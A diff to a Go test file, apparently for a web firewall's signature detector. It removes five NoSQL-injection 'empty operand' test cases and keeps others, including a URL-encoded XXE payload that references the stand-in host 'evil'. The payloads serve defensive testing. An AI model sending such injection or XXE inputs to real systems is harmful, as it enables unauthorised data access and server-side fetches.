@@ -19,13 +19,6 @@ func TestSigS17Structure(t *testing.T) {
 		{"GET", "/api/items", "filters.price.$gt=10", "", 200, "nosqli-operator", false},
 		{"GET", "/api/items", "a.$=1", "", 200, "nosqli-operator", false},
 		{"GET", "/api/items", "price=$5.99&total.$=2", "", 200, "nosqli-operator", false},
-		// a greater-than with nothing to compare: matches every record
-		{"GET", "/search", "q[$gt]=", "", 200, "nosqli-empty-operand", true},
-		{"GET", "/search", "id.$gte=&x=1", "", 200, "nosqli-empty-operand", true},
-		{"GET", "/products", "price[$gt]=10", "", 200, "nosqli-empty-operand", false},
-		{"GET", "/products", "filters[price][$gt]=", "", 200, "nosqli-empty-operand", false},
-		{"GET", "/products", "price[$lt]=", "", 200, "nosqli-empty-operand", false},
-
 		// XXE: the '!' written as a character reference too, and a UTF-7
 		// DOCTYPE whose '[' opens a longer base64 run
 		{"GET", "/api", "xml=%26lt%3B%26%2333%3BENTITY+x+SYSTEM+%22http%3A%2F%2Fevil%2Fx%22%26gt%3B", "", 200, "xxe-entity", true},
